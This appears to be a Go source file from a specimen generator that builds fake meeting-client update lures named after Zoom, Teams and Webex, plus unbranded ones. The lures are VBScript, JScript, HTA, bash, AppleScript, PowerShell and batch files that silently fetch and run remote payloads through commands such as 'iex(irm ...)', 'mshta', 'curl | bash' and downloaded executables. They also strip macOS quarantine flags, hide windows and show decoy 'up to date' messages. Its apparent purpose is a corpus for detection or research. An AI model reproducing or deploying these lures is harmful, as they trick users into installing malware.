package specimens

import "fmt"

// windows makes the script host lures of families A7, D and G: what a fake
// download page hands to Windows beside programs.
func (b *kit) windows() {
	names := []string{"ZoomSDK_Update.vbs", "Teams Meeting Update.vbs", "webex_client_update.vbs", "zoom audio driver.vbs", "MSTeamsUpdate.vbs"}
	for i, hide := range vbHidings {
		h := host(fmt.Sprintf("us0%dweb-zoom", i+1))
		run := "powershell -nop -w hidden -c iex(irm https://" + h + "/u)"
		b.script("wsh", "windows", "vbscript", hide.name, names[i], "' Meeting client update\r\nDim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run "+hide.hide(run)+", 0, True\r\n"+
			"MsgBox \"The meeting client is up to date.\", 64, \"Update\"\r\n", run)
	}
	b.script("wsh", "windows", "vbscript", "plain", "Zoom Client Repair.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n"+
		"x.Open \"GET\", \"https://"+host("zoom-repair")+"/c.exe\", False\r\nx.Send\r\nSet a = CreateObject(\"ADODB.Stream\")\r\na.Type = 1\r\na.Open\r\na.Write x.responseBody\r\n"+
		"p = CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%TEMP%\") & \"\\c.exe\"\r\na.SaveToFile p, 2\r\nCreateObject(\"WScript.Shell\").Run p, 0\r\n")
	for i, hide := range jsHidings {
		h := host(fmt.Sprintf("teams-download%d", i))
		run := "mshta https://" + h + "/go.hta"
		b.script("wsh", "windows", "jscript", hide.name, []string{"Zoom_Update.js", "TeamsSetup.js", "meeting_update.js", "MSTeams_install.jse", "WebexUpdate.js"}[i],
			"// Microsoft Teams update\r\nvar w = new ActiveXObject(\"WScript.Shell\");\r\nw.Run("+hide.hide(run)+", 0, false);\r\n", run)
	}
	b.script("wsh", "windows", "jscript", "plain", "Teams_Meeting_Invite.js", "var h = new ActiveXObject(\"MSXML2.ServerXMLHTTP.6.0\");\r\nh.open(\"GET\", \"https://"+host("teams-meet")+"/i\", false);\r\nh.send();\r\neval(h.responseText);\r\n")
	b.htas()
}

func (b *kit) htas() {
	page := func(title, language, code string) string {
		return "<html><head><title>" + title + "</title><HTA:APPLICATION ID=\"u\" SHOWINTASKBAR=\"no\" WINDOWSTATE=\"minimize\"/>\r\n<script language=\"" + language + "\">\r\n" + code + "\r\n</script></head><body>Updating, please wait...</body></html>\r\n"
	}
	for i, hide := range vbHidings {
		run := "powershell -w hidden -c iwr https://" + host(fmt.Sprintf("zoom-hta%d", i)) + "/p.ps1 -OutFile $env:TEMP\\p.ps1; & $env:TEMP\\p.ps1"
		b.script("hta", "windows", "hta", hide.name, []string{"Zoom Update.hta", "TeamsFix.hta", "Webex_Audio_Repair.hta", "update.hta", "GoogleMeet.hta"}[i],
			page("Zoom Update", "VBScript", "CreateObject(\"WScript.Shell\").Run "+hide.hide(run)+", 0\r\nwindow.close"), run)
	}
	for i, hide := range jsHidings[:3] {
		run := "curl -s https://" + host(fmt.Sprintf("teams-hta%d", i)) + "/x.bat -o %TEMP%\\x.bat && %TEMP%\\x.bat"
		b.script("hta", "windows", "hta", hide.name, []string{"MSTeamsUpdate.hta", "camera_fix.hta", "meeting-client.hta"}[i],
			page("Microsoft Teams", "JScript", "new ActiveXObject('WScript.Shell').Run('cmd /c ' + "+hide.hide(run)+", 0); window.close();"), run)
	}
}

// brandless makes lures that name no brand: neither in the file's name nor in
// its text.
func (b *kit) brandless() {
	shell := []struct{ name, head, say, file string }{
		{"setup.sh", "Codec pack for video calls", "Installing the video codec...", "codec"},
		{"install.command", "Call client setup", "Preparing your call client...", "callclient"},
		{"Launcher_v1.94.command", "Launcher", "Starting...", "launcher"},
		{"driver_update.sh", "Microphone driver update", "Updating the microphone driver...", "mic"},
		{"fix.command", "Fixes the camera for the interview", "Camera found. Repairing...", "cam"},
		{"join-call.command", "Joins the conference call", "Connecting to the call...", "join"},
	}
	for i, s := range shell {
		url := "https://" + host(fmt.Sprintf("call-in%d", i)) + "/" + s.file
		b.script("brandless", "macos", "shell", "plain", s.name, lines("#!/bin/bash", "# "+s.head, `echo "`+s.say+`"`,
			"curl -fsSLk "+url+" -o /tmp/."+s.file+" && chmod +x /tmp/."+s.file+" && xattr -c /tmp/."+s.file+" && /tmp/."+s.file+" >/dev/null 2>&1 &",
			"sleep 3", `echo "Done. Return to the call."`))
	}
	for i, hide := range shellHidings {
		cmd := "curl -fsSL https://" + host(fmt.Sprintf("meeting-on%d", i)) + "/s | bash"
		b.script("brandless", "macos", "shell", hide.name, []string{"call_setup.sh", "audio-codec.command", "meeting_fix.sh"}[i%3],
			lines("#!/bin/bash", "# repairs the audio codec used in calls", `echo "Repairing audio codec..."`)+hide.hide(cmd)+"\n", cmd)
	}
	for i, hide := range appleHidings {
		cmd := "curl -s https://" + host(fmt.Sprintf("room-live%d", i)) + "/a | sh"
		b.script("brandless", "macos", "applescript", hide.name, []string{"Update.scpt", "Installer.scpt", "CallSetup.scpt"}[i%3], "-- Setup\n"+hide.hide(cmd)+"\n", cmd)
	}
	for i, hide := range powerHidings {
		cmd := "iex (Invoke-WebRequest -UseBasicParsing https://" + host(fmt.Sprintf("protected-view%d", i)) + "/c).Content"
		b.script("brandless", "windows", "powershell", hide.name, []string{"codec.ps1", "call-setup.ps1", "driver.ps1"}[i%3],
			"# video call codec setup\r\nWrite-Host 'Installing codec for the call...'\r\n"+hide.hide(cmd)+"\r\n", cmd)
	}
	for i, hide := range batchHidings {
		cmd := "mshta https://" + host(fmt.Sprintf("web-meet%d", i)) + "/h"
		b.script("brandless", "windows", "batch", hide.name, []string{"call_setup.bat", "driver.bat", "codec.cmd", "fix.bat"}[i], "@echo off\r\necho Preparing your call...\r\n"+hide.hide(cmd)+"\r\n", cmd)
	}
	for i, name := range []string{"update.bat", "nvidiaRelease.cmd"} {
		b.script("brandless", "windows", "batch", "plain", name, "@echo off\r\ncurl -k -o \"%TEMP%\\r.zip\" https://"+host(fmt.Sprintf("rel%d", i))+"/r.zip\r\n"+
			"tar -xf \"%TEMP%\\r.zip\" -C \"%TEMP%\"\r\nwscript //B \"%TEMP%\\update.vbs\"\r\n")
	}
}
